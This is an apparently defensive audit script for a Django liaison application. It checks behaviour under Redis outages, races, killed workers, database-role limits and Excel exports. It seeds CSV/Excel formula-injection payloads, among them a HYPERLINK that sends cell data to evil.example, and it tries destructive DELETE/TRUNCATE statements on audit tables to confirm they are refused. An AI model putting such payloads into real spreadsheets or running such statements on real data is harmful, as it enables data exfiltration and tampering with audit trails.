"""Issue 20's audit, measured from outside the process: HTTP against gunicorn in production mode,
a real Celery worker (with beat) and a Redis of the script's own that it stops, freezes and
starts again; the database roles as README's Production section sets them. One script of
~490 lines, because each part needs the same servers started, stopped and cleaned up.

    createdb liaison_audit
    DATABASE_URL=postgres://postgres@127.0.0.1:5432/liaison_audit .venv/bin/python benchmarks/outside_audit.py

The script migrates and seeds the demo county (as the owner, DATABASE_URL), makes the role
`liaison_app` and grants it (`grant_app_role`), then serves with that role. It prints, in turn:

1. every write that feeds the figures or queues work, with Redis up, stopped and frozen: the
   answer, its time, the rows it wrote, and how long until the work it left is done once Redis
   is back;
2. races (benchmarks/races.py): concurrent edits of one attendance row, without a version and
   with seen_at, and an issue's actions racing an escalation (requests, answers, lost updates,
   403 instead of 409);
3. a whole worker killed (SIGKILL) mid-export: how long until a new worker has finished it;
4. what the application's role may do to the audit trails (each statement, the database's answer);
5. every Excel export written with hostile names and texts: the cells checked, and formulas found.

BENCH_ONLY=writes,races,kill,audit,excel runs only the parts named. Exit 1 if a write answered 5xx,
an update was lost, a loser got 403, a worker's job was never finished, the role changed a trail
or a cell is a formula."""

import contextlib
import io
import json
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
import zipfile
from datetime import timedelta
from http.cookies import SimpleCookie
from pathlib import Path
from urllib.parse import urlsplit, urlunsplit

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "liaison.settings")
OWNER_URL = os.environ["DATABASE_URL"]
parts = urlsplit(OWNER_URL)
APP_URL = urlunsplit(parts._replace(netloc=f"liaison_app@{parts.hostname}:{parts.port or 5432}"))
ONLY = set(filter(None, os.environ.get("BENCH_ONLY", "").split(",")))
PASSWORD = "liaison-demo"
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2+3", "@SUM(1,1)", "=1+1", "\t=1+1"]
BIN = ROOT / ".venv" / "bin"
failures = []


def wanted(part):
    return not ONLY or part in ONLY


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


PRODUCTION = {"LIAISON_PRODUCTION": "1", "SECRET_KEY": "audit-" + "x" * 50, "ALLOWED_HOSTS": "127.0.0.1",
              "SECURE_HSTS_SECONDS": "0", "LOG_LEVEL": "WARNING"}


def manage(*args, **env):
    subprocess.run([BIN / "python", "manage.py", *args], cwd=ROOT, check=True,
                   env={**os.environ, "DATABASE_URL": OWNER_URL, "REDIS_URL": "", **env})


class Redis:
    def __init__(self):
        self.port = free_port()
        self.proc = None
        self.start()

    def start(self):
        self.proc = subprocess.Popen(["redis-server", "--port", str(self.port), "--bind", "127.0.0.1", "--save", "",
                                      "--appendonly", "no"], stdout=subprocess.DEVNULL)
        wait_for(lambda: socket.create_connection(("127.0.0.1", self.port), 1).close() or True, 10)

    def stop(self):
        self.proc.kill()
        self.proc.wait()

    def freeze(self):
        self.proc.send_signal(signal.SIGSTOP)

    def thaw(self):
        self.proc.send_signal(signal.SIGCONT)

    @property
    def url(self):
        return f"redis://127.0.0.1:{self.port}/0"


def wait_for(check, seconds, step=0.2):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            if check():
                return True
        except Exception:  # a service still starting
            pass
        time.sleep(step)
    return False


class Client:
    """A browser or script against gunicorn behind an HTTPS proxy: the proxy's header, the
    cookies kept by hand (they are Secure, and this is plain HTTP on loopback)."""

    def __init__(self, base, token=None):
        self.base, self.token, self.cookies = base, token, {}

    def request(self, method, path, body=None, form=None, timeout=60):
        headers = {"Host": "127.0.0.1", "X-Forwarded-Proto": "https", "Accept": "application/json"}
        data = None
        if self.token:
            headers["Authorization"] = f"Token {self.token}"
        if body is not None:
            data, headers["Content-Type"] = json.dumps(body).encode(), "application/json"
        if form is not None:
            form = {**form, "csrfmiddlewaretoken": self.cookies.get("csrftoken", "")}
            data = urllib.parse.urlencode(form, doseq=True).encode()
            headers["Content-Type"] = "application/x-www-form-urlencoded"
            headers["Referer"] = "https://127.0.0.1" + path
            headers["Accept"] = "text/html"
        if self.cookies:
            headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
        req = urllib.request.Request(self.base + path, data=data, method=method, headers=headers)
        started = time.monotonic()
        try:
            with urllib.request.urlopen(req, timeout=timeout) as r:
                status, content, got = r.status, r.read(), r.headers
        except urllib.error.HTTPError as e:
            status, content, got = e.code, e.read(), e.headers
        elapsed = time.monotonic() - started
        for cookie in got.get_all("Set-Cookie") or []:
            for name, morsel in SimpleCookie(cookie).items():
                self.cookies[name] = morsel.value
        return status, content, elapsed

    def json(self, method, path, body=None):
        status, content, _ = self.request(method, path, body)
        return status, json.loads(content or b"null")

    def sign_in(self, username):
        self.request("GET", "/accounts/login/")
        status, _, _ = self.request("POST", "/accounts/login/", form={"username": username, "password": PASSWORD})
        assert status == 302, f"sign-in of {username}: {status}"
        return self


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args, **kwargs):
        return None


urllib.request.install_opener(urllib.request.build_opener(NoRedirect))


def api(base, username):
    status, content, _ = Client(base).request("POST", "/api/v1/auth/token/",
                                              body={"username": username, "password": PASSWORD})
    assert status == 200, content
    return Client(base, json.loads(content)["token"])


class Stack:
    """gunicorn (production settings, the application's role) and a Celery worker with beat."""

    def __init__(self, redis):
        self.redis, self.port = redis, free_port()
        self.tmp = tempfile.mkdtemp(prefix="liaison-audit-")
        self.env = {**os.environ, **PRODUCTION, "DATABASE_URL": APP_URL, "REDIS_URL": redis.url,
                    "MEDIA_ROOT": str(Path(self.tmp) / "media"), "EXPORT_INLINE_ROWS": "10",
                    # races.py speaks plain HTTP without the proxy's header.
                    "SECURE_SSL_REDIRECT": "0",
                    "CACHE_KEY_PREFIX": "audit"}
        self.web = subprocess.Popen([BIN / "gunicorn", "liaison.wsgi", "--workers", "3", "--threads", "4",
                                     "--bind", f"127.0.0.1:{self.port}", "--timeout", "120"], cwd=ROOT, env=self.env,
                                    stderr=open(Path(self.tmp) / "gunicorn.log", "w"))  # noqa: SIM115 (the server's)
        self.worker = None
        self.start_worker()
        if not wait_for(lambda: Client(self.base).request("GET", "/public/", timeout=2)[0] == 200, 60):
            self.stop()
            sys.exit(f"gunicorn did not answer: see {self.tmp}/gunicorn.log")

    @property
    def base(self):
        return f"http://127.0.0.1:{self.port}"

    def start_worker(self):
        self.worker = subprocess.Popen(
            [BIN / "celery", "-A", "liaison", "worker", "--beat", "--concurrency", "2", "--loglevel", "WARNING",
             "--schedule", str(Path(self.tmp) / f"beat-{time.monotonic()}")],
            cwd=ROOT, env=self.env, start_new_session=True,
            stderr=open(Path(self.tmp) / "worker.log", "a"))  # noqa: SIM115 (the worker's)

    def kill_worker(self):
        os.killpg(self.worker.pid, signal.SIGKILL)
        self.worker.wait()

    def stop(self):
        self.web.terminate()
        with contextlib.suppress(ProcessLookupError):
            os.killpg(self.worker.pid, signal.SIGTERM)
        self.web.wait()
        self.worker.wait()


def setup():
    manage("migrate", "--noinput", "-v0")
    manage("seed_demo")
    manage("collectstatic", "--noinput", "-v0", **PRODUCTION)
    import django

    django.setup()
    from django.db import connection

    with connection.cursor() as c:
        c.execute("SELECT 1 FROM pg_roles WHERE rolname = 'liaison_app'")
        if not c.fetchone():
            c.execute("CREATE ROLE liaison_app LOGIN")
    manage("grant_app_role", "liaison_app")


def writes(stack):
    from django.utils import timezone

    from issues.models import Category, Event, Issue
    from reports.models import ExportJob, PendingChange, Refresh
    from teams.models import AttendanceChange, LiaisonDay, Team
    from visits.models import Visit

    cadre, leader = api(stack.base, "cadre"), api(stack.base, "leader")
    orgdept = Client(stack.base).sign_in("orgdept")
    team = Team.objects.filter(memberships__user__username="cadre").select_related("village__town__county").first()
    county = team.village.town.county
    today = timezone.localdate()

    def open_issue():
        return Issue.objects.filter(current_step__team=team, status="open").order_by("pk").first()

    def progress():
        issue = open_issue()
        before = Event.objects.filter(issue=issue, kind="progress").count()
        status, _, took = cadre.request("POST", f"/api/v1/issues/{issue.code}/progress/",
                                        body={"note": "已电话联系群众", "step": issue.current_step_id})
        return status, took, Event.objects.filter(issue=issue, kind="progress").count() - before

    def visit():
        before = Visit.objects.count()
        status, _, took = cadre.request("POST", "/api/v1/visits/", body={
            "kind": "reception", "date": str(today), "village": team.village_id, "notes": "接待群众"})
        return status, took, Visit.objects.count() - before

    def attendance():
        led = Team.objects.filter(memberships__user__username="leader").first()
        day = LiaisonDay.objects.filter(team=led, date__lt=today, date__gte=today - timedelta(days=6),
                                        status="scheduled").order_by("-date").first() or \
            LiaisonDay.objects.filter(team=led, date__lt=today).order_by("-date").first()
        row = day.attendance.select_related("member").order_by("pk").first()
        new = "leave" if row.status != "leave" else "present"
        before = AttendanceChange.objects.count()
        status, content, took = leader.request("POST", f"/api/v1/liaison-days/{day.pk}/attendance/", body=[
            {"member": row.member_id, "status": new, "note": "外出开会" if new == "leave" else "",
             "seen": row.status}])
        if status == 400:
            print("     ", content.decode()[:200])
        return status, took, AttendanceChange.objects.count() - before

    def refresh_now():
        Refresh.objects.filter(county=county, status__in=["queued", "running"]).update(status="failed")
        before = Refresh.objects.filter(county=county).count()
        status, _, took = orgdept.request("POST", f"/reports/county/{county.pk}/refresh/", form={})
        return status, took, Refresh.objects.filter(county=county).count() - before

    def export():
        before = ExportJob.objects.count()
        status, _, took = orgdept.request("POST", "/reports/exports/issues/", form={})
        return status, took, ExportJob.objects.count() - before

    def create_issue():
        before = Issue.objects.count()
        status, content, took = cadre.request("POST", "/api/v1/issues/", body={
            "village": team.village_id, "category": Category.objects.first().code, "title": "路灯不亮",
            "description": "村口路灯坏了", "reporter_name": "张三", "reporter_phone": "13800138000", "source": "visit"})
        return status, took, Issue.objects.count() - before

    def settled():
        return (not PendingChange.objects.filter(county=county).exists()
                and not ExportJob.objects.filter(status__in=["queued", "running"]).exists()
                and not Refresh.objects.filter(county=county, status__in=["queued", "running"]).exists())

    actions = [("issue progress", progress), ("new issue", create_issue), ("visit", visit),
               ("attendance", attendance), ("refresh now", refresh_now), ("large export", export)]
    print("\n1. Writes with Redis up, stopped and frozen (answer, seconds, rows written)")
    for state in ("up", "stopped", "frozen"):
        if state == "stopped":
            stack.redis.stop()
        if state == "frozen":
            stack.redis.freeze()
        for name, action in actions:
            status, took, rows = action()
            print(f"   Redis {state:7} {name:15} {status}  {took:6.2f} s  rows {rows}")
            if status >= 500 or took > 2.5 or rows != 1:
                failures.append(f"write {name} with Redis {state}: {status} in {took:.2f} s, {rows} rows")
        if state == "stopped":
            stack.redis.start()
        if state == "frozen":
            stack.redis.thaw()
        started = time.monotonic()
        done = wait_for(settled, 300, step=1)
        print(f"   Redis {state:7} back: the work left was done {'after' if done else 'NOT within'} "
              f"{time.monotonic() - started:.0f} s")
        if not done:
            failures.append(f"work left with Redis {state} not done in 300 s")
    return county, team


def races(stack):
    """benchmarks/races.py against the stack: attendance without a version and with seen_at,
    issue actions racing an escalation."""
    print("\n2. Races (benchmarks/races.py)")
    out = subprocess.run([BIN / "python", ROOT / "benchmarks" / "races.py"], env={**os.environ, "BASE": stack.base},
                         capture_output=True, text=True, check=True).stdout
    print("   " + out.strip().replace("\n", "\n   "))
    versioned = re.search(r"with seen_at.*lost updates (\d+)", out)
    forbidden = re.search(r"403-instead-of-409 (\d+)", out)
    if not versioned or int(versioned.group(1)):
        failures.append("attendance with seen_at lost updates")
    if not forbidden or int(forbidden.group(1)):
        failures.append("issue actions: 403 instead of 409")


def kill(stack):
    from reports.models import ExportJob

    orgdept = Client(stack.base).sign_in("orgdept")
    status, _, _ = orgdept.request("POST", "/reports/exports/visits/", form={})
    job = ExportJob.objects.latest("pk")
    assert wait_for(lambda: ExportJob.objects.get(pk=job.pk).status == "running", 60, step=0.05), "never ran"
    stack.kill_worker()
    killed = time.monotonic()
    stack.start_worker()
    done = wait_for(lambda: ExportJob.objects.get(pk=job.pk).status == "done", 900, step=1)
    took = time.monotonic() - killed
    print(f"\n3. Worker killed mid-export (job {job.pk}, {job.total} rows): "
          f"{'done' if done else 'NOT done'} {took:.0f} s after the kill, by a worker started at once")
    if not done:
        failures.append("killed worker's export never finished")


def audit():
    import psycopg

    from reports.models import AssessmentResult, AssessmentRound, Inspection

    published = AssessmentRound.objects.filter(status="published").first()
    result = AssessmentResult.objects.filter(round=published).first()
    behind = Inspection.objects.filter(results__round=published)
    used = behind.filter(deduction__gt=0).first()
    named = behind.filter(absent_members__isnull=False).first()
    statements = [
        "DELETE FROM reports_assessmentevent",
        "UPDATE reports_assessmentevent SET reason = 'x'",
        "TRUNCATE reports_assessmentevent",
        f"UPDATE reports_assessmentresult SET score = score + 10 WHERE id = {result.pk}",
        f"DELETE FROM reports_assessmentresult WHERE id = {result.pk}",
        f"UPDATE reports_assessmentround SET status = 'draft' WHERE id = {published.pk}",
        "DELETE FROM issues_event", "TRUNCATE issues_event", "UPDATE teams_attendancechange SET to_note = 'x'",
    ]
    if used is not None:
        statements += [f"UPDATE reports_inspection SET deduction = 0 WHERE id = {used.pk}",
                       f"DELETE FROM reports_assessmentresult_inspections WHERE inspection_id = {used.pk}"]
    if named is not None:
        statements.append(f"DELETE FROM reports_inspection_absent_members WHERE inspection_id = {named.pk}")
    print("\n4. The application's role (liaison_app) against the audit trails")
    conn = psycopg.connect(APP_URL)
    for sql in statements:
        try:
            with conn.transaction(), conn.cursor() as c:
                c.execute(sql)
                answer, refused = f"COMMITTED ({c.rowcount} rows)", False
        except psycopg.Error as e:
            answer, refused = f"{e.sqlstate} {str(e).splitlines()[0][:110]}", True
        print(f"   {sql[:70]:70} → {answer}")
        if not refused:
            failures.append(f"the role committed: {sql}")
    conn.close()


def hostile(model, i, name):
    """A formula-like name, cut to what the field holds."""
    return (HOSTILE[i % len(HOSTILE)] + name[:4])[:model._meta.get_field("name").max_length]


def excel(stack, county):
    from openpyxl import load_workbook

    from reports.models import AssessmentRound, ExportJob
    from teams.models import Department, LiaisonDay, Team, Town, User, Village
    from visits.models import Visit

    # Hostile values in every name a sheet prints: people, units, places, free text.
    for i, user in enumerate(User.objects.filter(memberships__team__village__town__county=county).distinct()):
        User.objects.filter(pk=user.pk).update(name=hostile(User, i, user.name))
    for model in (Town, Village, Team, Department):
        for i, obj in enumerate(model.objects.all()):
            model.objects.filter(pk=obj.pk).update(name=hostile(model, i, obj.name))
    Visit.objects.filter(notes="").update(notes=HOSTILE[0])
    orgdept = api(stack.base, "orgdept")
    team = Team.objects.filter(village__town__county=county).first()
    month = LiaisonDay.objects.filter(team=team).latest("date").date.strftime("%Y-%m")
    round_ = AssessmentRound.objects.filter(county=county, status="published").first()
    bodies = [{"kind": "issues"}, {"kind": "visits"}, {"kind": "attendance", "town": str(team.village.town_id),
                                                        "month": month},
              {"kind": "dashboard", "unit": "county", "id": str(county.pk)},
              {"kind": "assessment", "round": str(round_.pk)}]
    print("\n5. Excel exports with hostile names (=HYPERLINK, +1+1, -2+3, @SUM, =1+1, tab)")
    total_cells = total_formulas = 0
    for body in bodies:
        status, job = orgdept.json("POST", "/api/v1/exports/", body)
        assert status in (200, 201, 202), (body, status, job)
        job_id = job["id"]
        wait_for(lambda job_id=job_id: ExportJob.objects.get(pk=job_id).status in ("done", "failed"), 300, step=0.5)
        status, job = orgdept.json("GET", f"/api/v1/exports/{job_id}/")
        status, content, _ = orgdept.request("GET", urlsplit(job["download"]).path)
        assert status == 200, (body, status)
        book = load_workbook(io.BytesIO(content))
        cells = formulas = hostile_cells = 0
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is None:
                        continue
                    cells += 1
                    formulas += cell.data_type == "f"
                    hostile_cells += isinstance(cell.value, str) and any(h in cell.value for h in HOSTILE)
        with zipfile.ZipFile(io.BytesIO(content)) as z:
            xml_formulas = sum(len(re.findall(rb"<f[ >]", z.read(n))) for n in z.namelist()
                               if n.startswith("xl/worksheets/"))
        print(f"   {body['kind']:10} {cells:7} cells, {hostile_cells:5} with a hostile value, formulas {formulas} "
              f"(<f> elements in the sheets' XML: {xml_formulas})")
        total_cells, total_formulas = total_cells + cells, total_formulas + formulas + xml_formulas
    if total_formulas:
        failures.append(f"{total_formulas} formula cells in the exports")
    print(f"   all: {total_cells} cells, {total_formulas} formulas")


def main():
    setup()
    redis = Redis()
    try:
        stack = Stack(redis)
    except BaseException:
        redis.stop()
        raise
    county = None
    try:
        if wanted("writes"):
            county, _team = writes(stack)
        if wanted("races"):
            races(stack)
        if wanted("kill"):
            kill(stack)
        if wanted("audit"):
            audit()
        if wanted("excel"):
            from teams.models import County

            excel(stack, county or County.objects.first())
    finally:
        stack.stop()
        redis.stop()
    print("\nFAILURES:\n  " + "\n  ".join(failures) if failures else "\nNo failure.")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
